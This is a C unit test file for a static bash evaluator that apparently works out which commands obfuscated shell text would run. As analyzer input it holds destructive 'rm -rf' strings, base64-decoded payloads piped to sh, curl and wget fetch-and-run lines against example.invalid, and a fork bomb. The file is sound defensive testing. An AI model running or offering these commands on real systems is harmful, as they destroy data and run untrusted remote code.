/* test_eval.c - the static evaluator (src/shell/sh_eval.c): for each text,
 * the commands bash would run, in order, after every expansion the
 * evaluator can do without running anything. Destructive command strings
 * here are data for the analyzer only; nothing is executed.
 *
 * An expected command is its argv joined by single spaces; a leading "!"
 * means the command must be opaque (and then only its name is compared). Commands with an
 * empty argv (assignments, redirections alone) are skipped. Pure builtins
 * and utilities (echo, printf, base64, ...) that only compute are listed
 * like any other command: the evaluator runs them in its head, bash runs
 * them for real, and both show them. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "shell/sh_eval.h"
#include "shell/shell_internal.h"
#include "shell_fixture.h"

static const char *joined(const struct av_command *c)
{
	static char buf[4096];
	size_t k = 0;
	buf[0] = '\0';
	for (uint32_t i = 0; i < c->argc && k < sizeof(buf) - 1; i++) {
		int n = snprintf(buf + k, sizeof(buf) - k, "%s%s", i ? " " : "",
		                 c->argv[i]);
		if (n < 0)
			break;
		k += (size_t)n;
	}
	return buf;
}

/* Asserts the commands with an argv are exactly the NULL-terminated list. */
static void expect(const char *text, ...)
{
	const struct av_shell_result *r = analyze(text);
	va_list ap;
	va_start(ap, text);
	uint32_t i = 0;
	for (const char *want; (want = va_arg(ap, const char *)) != NULL; i++) {
		while (i < r->ncmds && r->cmds[i].argc == 0)
			i++;
		if (i >= r->ncmds)
			fail_msg("%s\nmissing command: %s", text, want);
		const struct av_command *c = &r->cmds[i];
		if (want[0] == '!') {
			if (!c->opaque)
				fail_msg("%s\ncommand %u (%s) should be opaque", text, i,
				         joined(c));
			if (strcmp(c->argv[0], want + 1) != 0)
				fail_msg("%s\ncommand %u: want %s, got %s", text, i,
				         want + 1, c->argv[0]);
			continue;
		}
		if (c->opaque)
			fail_msg("%s\ncommand %u (%s) is opaque: %s", text, i, joined(c),
			         c->opaque);
		if (strcmp(joined(c), want) != 0)
			fail_msg("%s\ncommand %u: want [%s], got [%s]", text, i, want,
			         joined(c));
	}
	va_end(ap);
	while (i < r->ncmds && r->cmds[i].argc == 0)
		i++;
	if (i < r->ncmds)
		fail_msg("%s\nextra command %u: %s", text, i, joined(&r->cmds[i]));
}

static int find(const struct av_shell_result *r, const char *name)
{
	for (uint32_t i = 0; i < r->ncmds; i++)
		if (r->cmds[i].argc && strcmp(r->cmds[i].argv[0], name) == 0)
			return (int)i;
	return -1;
}

static void test_variables_and_quoting(void **state)
{
	(void)state;
	expect("a=r; b=m; $a$b -rf /tmp/x", "rm -rf /tmp/x", NULL);
	expect("a=r; a+=m; $a /tmp/x", "rm /tmp/x", NULL);
	expect("c='rm -rf /tmp/x'; $c", "rm -rf /tmp/x", NULL);
	expect("x=\"a  b\"; echo $x \"$x\"", "echo a b a  b", NULL);
	/* never assigned, lower case: unset; upper case: the environment's */
	expect("${cmd:-rm} /tmp/x ${y:+z}", "rm /tmp/x", NULL);
	expect("echo ${CMD:-rm}", "echo ${CMD:-rm}", NULL);
	expect("X=/ true; rm $X", "true", "rm $X", NULL);
	expect("declare a=rm; readonly b=/tmp/x; b=/; $a $b", "declare a=rm",
	       "readonly b=/tmp/x", "rm /tmp/x", NULL);
	expect("declare -u u=rm; declare -l l=/TMP/X; $u $l", "declare -u u=rm",
	       "declare -l l=/TMP/X", "RM /tmp/x", NULL);
	expect("declare -i n=2+3; rm /tmp/$n", "declare -i n=2+3", "rm /tmp/5", NULL);
	expect("unset a; a=1; unset a; echo \"${a-gone}\"", "unset a", "unset a",
	       "echo gone", NULL);
	expect("IFS=:; p=rm:/tmp/x; $p", "rm /tmp/x", NULL);
	expect("IFS=; p='rm /tmp/x'; $p", "rm /tmp/x", NULL);
	expect("e=; $e ls \"$e\"", "ls ", NULL);
}

static void test_parameter_operators(void **state)
{
	(void)state;
	expect("x=hello; echo ${x^^} ${x^} ${x:1:3} ${x: -2} ${x/l/L} ${x//l/L} ${x#h*l} "
	       "${x##*l} ${x%l*} ${x%%l*} ${#x}",
	       "echo HELLO Hello ell lo heLlo heLLo lo o hel he 5", NULL);
	expect("x=hello; echo ${x/#he/HE} ${x/%lo/LO} ${x,,} ${x@U} ${x@u} ${x@Q}",
	       "echo HEllo helLO hello HELLO Hello 'hello'", NULL);
	expect("p=/tmp/x.txt; rm ${p%.txt}.log", "rm /tmp/x.log", NULL);
	expect("ref=target; target=rm; ${!ref} /tmp/x", "rm /tmp/x", NULL);
	expect("rma=1; rmb=2; echo ${!rm*}", "echo rma rmb", NULL);
	expect("unset v; echo ${v:=rm}; $v /tmp/x", "unset v", "echo rm", "rm /tmp/x",
	       NULL);
	expect("x=abc; echo ${x:1}", "echo bc", NULL);
	/* declare -n: a name for another variable, chains followed */
	expect("a=rm; declare -n r1=a; declare -n r2=r1; $r2 /tmp/x", "declare -n r1=a",
	       "declare -n r2=r1", "rm /tmp/x", NULL);
	expect("f() { local -n ref=$1; ref=rm; }; f v; $v /tmp/x", "local -n ref=v",
	       "rm /tmp/x", NULL);
	expect("cd /tmp; cd; rm ~-/x; cd ../y; echo $PWD", "cd /tmp", "cd", "rm /tmp/x",
	       "cd ../y", "echo /home/y", NULL);
}

static void test_arrays(void **state)
{
	(void)state;
	expect("a=(rm -rf /tmp/x); \"${a[@]}\"", "rm -rf /tmp/x", NULL);
	expect("a=(x rm y); ${a[1]} /tmp/x; echo ${#a[@]} ${!a[@]} \"${a[@]:1}\"",
	       "rm /tmp/x", "echo 3 0 1 2 rm y", NULL);
	expect("a[2]=rm; a[0]=x; ${a[2]} ${a[-1]}", "rm rm", NULL);
	expect("declare -A m=([k]=rm); ${m[k]} /tmp/x", "declare -A m=([k]=rm)",
	       "rm /tmp/x", NULL);
	expect("set -- rm /tmp/x; \"$@\"; shift; echo $# $1", "set -- rm /tmp/x",
	       "rm /tmp/x", "shift", "echo 1 /tmp/x", NULL);
	expect("set -- a b; echo \"$*\" \"$@\" ${@:2}", "set -- a b", "echo a b a b b",
	       NULL);
}

static void test_substitutions_and_eval(void **state)
{
	(void)state;
	expect("$(echo rm) -rf /tmp/x", "echo rm", "rm -rf /tmp/x", NULL);
	expect("`printf '\\x72\\x6d'` /tmp/x", "printf \\x72\\x6d", "rm /tmp/x", NULL);
	expect("eval \"$(printf 'r%s' m) /tmp/x\"", "printf r%s m", "eval rm /tmp/x",
	       "rm /tmp/x", NULL);
	/* eval runs in the same shell: its assignments stay */
	expect("eval 'a=rm'; $a /tmp/x", "eval a=rm", "rm /tmp/x", NULL);
	const struct av_shell_result *r = analyze("eval \"eval 'rm /tmp/x'\"");
	int i = find(r, "rm");
	assert_true(i >= 0);
	assert_int_equal(r->cmds[i].depth, 2);
	assert_string_equal(r->cmds[i].provenance, "evaluated by eval at depth 2");
	/* decoded text kept in a variable and evaluated later is marked */
	r = analyze("x=$(echo bHMgLWxh | base64 -d); eval \"$x\"");
	i = find(r, "ls");
	assert_true(i >= 0);
	assert_string_equal(r->cmds[i].provenance,
	                    "decoded from base64, evaluated by eval at depth 1");
	assert_non_null(r->cmds[i].decoded);
	/* the output of a command known only at run time stays unknown */
	expect("$(cat /tmp/f) -rf /", "cat /tmp/f", "!$(cat /tmp/f)", NULL);
	/* eval of unknown text is one opaque command, its substitution once */
	r = analyze("eval \"$(ssh-agent -s)\"");
	assert_int_equal(r->ncmds, 3);
	assert_string_equal(r->cmds[2].argv[0], "$(ssh-agent -s)");
	assert_non_null(r->cmds[2].opaque);
	assert_string_equal(r->cmds[2].provenance, "evaluated by eval at depth 1");
	/* a subshell's and a substitution's assignments do not come back */
	expect("a=ls; (a=rm); x=$(a=rm; echo $a); $a $x", "echo rm", "ls rm", NULL);
	expect("echo $((6*7)) $((x=2, x<<3))", "echo 42 16", NULL);
}

static void test_control_flow(void **state)
{
	(void)state;
	expect("for c in rm chmod; do $c /tmp/x; done", "rm /tmp/x", "chmod /tmp/x",
	       NULL);
	expect("i=0; while [ $i -lt 2 ]; do rm /tmp/$i; i=$((i+1)); done", "[ 0 -lt 2 ]",
	       "rm /tmp/0", "[ 1 -lt 2 ]", "rm /tmp/1", "[ 2 -lt 2 ]", NULL);
	expect("for ((i=0; i<2; i++)); do rm /tmp/$i; done", "rm /tmp/0", "rm /tmp/1",
	       NULL);
	expect("x=b; case $x in a) ls;; b) rm /tmp/x;; esac", "rm /tmp/x", NULL);
	expect("x=a; case $x in a) ls;& b) rm /tmp/x;; c) id;; esac", "ls", "rm /tmp/x",
	       NULL);
	expect("if true; then rm /tmp/x; else ls; fi", "true", "rm /tmp/x", NULL);
	expect("false && rm /tmp/x || ls", "false", "ls", NULL);
	expect("[[ abc == a* ]] && rm /tmp/x", "rm /tmp/x", NULL);
	expect("(( 2 > 3 )) || rm /tmp/x", "rm /tmp/x", NULL);
	/* an unknown condition: both branches, and what they set is unknown */
	expect("if [ -f /tmp/y ]; then a=rm; else a=ls; fi; $a /tmp/x", "[ -f /tmp/y ]",
	       "!$a", NULL);
	expect("if [ -f /tmp/y ]; then a=rm; else a=rm; fi; $a /tmp/x", "[ -f /tmp/y ]",
	       "rm /tmp/x", NULL);
	expect("for f in /tmp/*.log; do rm \"$f\"; done", "rm $f", NULL);
	expect("while true; do rm /tmp/x; break; done; ls", "true", "rm /tmp/x", "break",
	       "ls", NULL);
	expect("set -e; false; rm /tmp/x", "set -e", "false", NULL);
	expect("exit 0; rm /tmp/x", "exit 0", NULL);
	expect("trap 'rm /tmp/x' EXIT; ls", "trap rm /tmp/x EXIT", "ls", "rm /tmp/x",
	       NULL);
}

static void test_functions_and_aliases(void **state)
{
	(void)state;
	expect("f() { rm \"$1\"; }; f /tmp/x", "rm /tmp/x", NULL);
	expect("f() { local c=rm; $c \"$@\"; }; f /tmp/x; echo \"$c\"", "local c=rm",
	       "rm /tmp/x", "echo ", NULL);
	expect("f() { echo never; }", NULL);
	expect("f() { return; rm /tmp/x; }; f; ls", "return", "ls", NULL);
	const struct av_shell_result *r = analyze(":(){ :|:& };:");
	assert_true(r->ncmds >= 1);
	for (uint32_t i = 0; i < r->ncmds; i++)
		assert_ptr_equal(r->cmds[i].opaque, av_shell_fork_bomb);
	/* expand_aliases is off in a non-interactive shell */
	expect("alias x='rm -rf'\nx /tmp/y", "alias x=rm -rf", "x /tmp/y", NULL);
	/* an alias defined on a line applies from the next line */
	expect("shopt -s expand_aliases; alias x='rm -rf'; x /tmp/y\nx /tmp/z",
	       "shopt -s expand_aliases", "alias x=rm -rf", "x /tmp/y", "rm -rf /tmp/z",
	       NULL);
	/* eval reads its text when it runs: the alias is in effect */
	expect("shopt -s expand_aliases; alias x='rm -rf'; eval 'x /tmp/y'",
	       "shopt -s expand_aliases", "alias x=rm -rf", "eval x /tmp/y",
	       "rm -rf /tmp/y", NULL);
	expect("shopt -s expand_aliases\nalias ls='ls -la'\nls /tmp",
	       "shopt -s expand_aliases", "alias ls=ls -la", "ls -la /tmp", NULL);
}

static void test_pipes_and_nested_shells(void **state)
{
	(void)state;
	/* "rm -rf /tmp/x" in base64 */
	const struct av_shell_result *r =
	        analyze("echo cm0gLXJmIC90bXAveA== | base64 -d | sh");
	int i = find(r, "rm");
	assert_true(i >= 0);
	assert_int_equal(r->cmds[i].depth, 1);
	assert_int_equal(r->cmds[i].parent, find(r, "sh"));
	assert_string_equal(r->cmds[i].provenance,
	                    "decoded from base64, piped to sh at depth 1");
	expect("bash <<'EOF'\nrm /tmp/x\nEOF", "bash", "rm /tmp/x", NULL);
	expect("bash <<< 'rm /tmp/x'", "bash", "rm /tmp/x", NULL);
	expect("source <(echo rm /tmp/x)", "echo rm /tmp/x", "source <(echo rm /tmp/x)",
	       "rm /tmp/x", NULL);
	expect("printf 'rm /tmp/x\\n' > /tmp/s.sh; bash /tmp/s.sh", "printf rm /tmp/x\\n",
	       "bash /tmp/s.sh", "rm /tmp/x", NULL);
	expect("sh -c 'rm \"$1\"' sh /tmp/x", "sh -c rm \"$1\" sh /tmp/x", "rm /tmp/x",
	       NULL);
	expect("a=rm; export b=rm; bash -c '$a x; $b y'", "export b=rm",
	       "bash -c $a x; $b y", "x", "rm y", NULL);
	expect("read -r c f <<< 'rm /tmp/x'; $c $f", "read -r c f", "rm /tmp/x", NULL);
	expect("printf -v c '%s' rm; $c /tmp/x", "printf -v c %s rm", "rm /tmp/x", NULL);
	/* programs known only at run time are opaque, their parts listed once */
	r = analyze("sh -c \"$(wget -qO- http://example.invalid/p)\"");
	assert_int_equal(r->ncmds, 3);
	assert_non_null(r->cmds[2].opaque);
	assert_int_equal(r->cmds[2].parent, 1);
	r = analyze("source <(curl -s http://example.invalid/p)");
	assert_non_null(r->cmds[1].opaque);
	expect("bash -c '$1 /tmp/x' _ $X", "bash -c $1 /tmp/x _ $X", "!$1", NULL);
	r = analyze("curl -s https://example.invalid/i.sh | sh");
	assert_non_null(r->cmds[1].opaque);
	assert_non_null(strstr(r->cmds[1].opaque, "piped from curl"));
	/* the decoded command name is resolved and marked as decoded */
	r = analyze("$(echo cm0= | base64 -d) /tmp/x");
	i = find(r, "rm");
	assert_true(i >= 0);
	assert_null(r->cmds[i].opaque);
	assert_non_null(r->cmds[i].decoded);
}

static void test_globs_in_command_position(void **state)
{
	(void)state;
	expect("/?\?\?/r? /tmp/x", "/bin/rm /tmp/x", NULL);
	expect("/usr/bin/c?? x", "!/usr/bin/c??", NULL);
	expect("[ -f x ] && ls", "[ -f x ]", "ls", NULL);
	expect("shopt -s extglob\n/bin/@(rm|zz) /tmp/x", "shopt -s extglob",
	       "/bin/rm /tmp/x", NULL);
}

static void test_syntax_errors(void **state)
{
	(void)state;
	/* complete lines before the error run; the rest is opaque */
	const struct av_shell_result *r = analyze("rm /tmp/x\nif then fi");
	assert_int_equal(r->ncmds, 2);
	assert_string_equal(r->cmds[0].argv[0], "rm");
	assert_non_null(r->cmds[1].opaque);
	assert_non_null(strstr(r->cmds[1].opaque, "line 2"));
	r = analyze("echo 'unterminated");
	assert_int_equal(r->ncmds, 1);
	assert_non_null(r->cmds[0].opaque);
}

static void test_limits(void **state)
{
	(void)state;
	const struct av_shell_result *r = analyze("while :; do :; done");
	assert_null(r->truncated);
	r = analyze("i=0; while [ $i -lt 100000 ]; do i=$((i+1)); done");
	assert_non_null(r->truncated);
	r = analyze("f() { f; }; f");
	assert_string_equal(r->truncated, "AV_SH_EVAL_MAX_CALLS");
	r = analyze("echo {1..9}{1..9}{1..9}{1..9}{1..9}{1..9}{1..9}{1..9}");
	assert_non_null(r->truncated);
	r = analyze(
	        "a=xxxxxxxxxxxxxxxx; for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 "
	        "18 19 "
	        "20 21 22 23 24 25 26; do a=$a$a; done; echo $a");
	assert_non_null(r->truncated);
	r = analyze("eval 'eval \"eval \\\"eval \\\\\\\"eval \\\\\\\\\\\\\\\"eval "
	            "x\\\\\\\\\\\\\\\"\\\\\\\"\\\"\"'");
	assert_null(r->truncated);
	/* the same text always gives the same answer */
	r = analyze("x=1; rm /tmp/$x");
	assert_string_equal(r->cmds[1].argv[1], "/tmp/1");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_variables_and_quoting),
		cmocka_unit_test(test_parameter_operators),
		cmocka_unit_test(test_arrays),
		cmocka_unit_test(test_substitutions_and_eval),
		cmocka_unit_test(test_control_flow),
		cmocka_unit_test(test_functions_and_aliases),
		cmocka_unit_test(test_pipes_and_nested_shells),
		cmocka_unit_test(test_globs_in_command_position),
		cmocka_unit_test(test_syntax_errors),
		cmocka_unit_test(test_limits),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
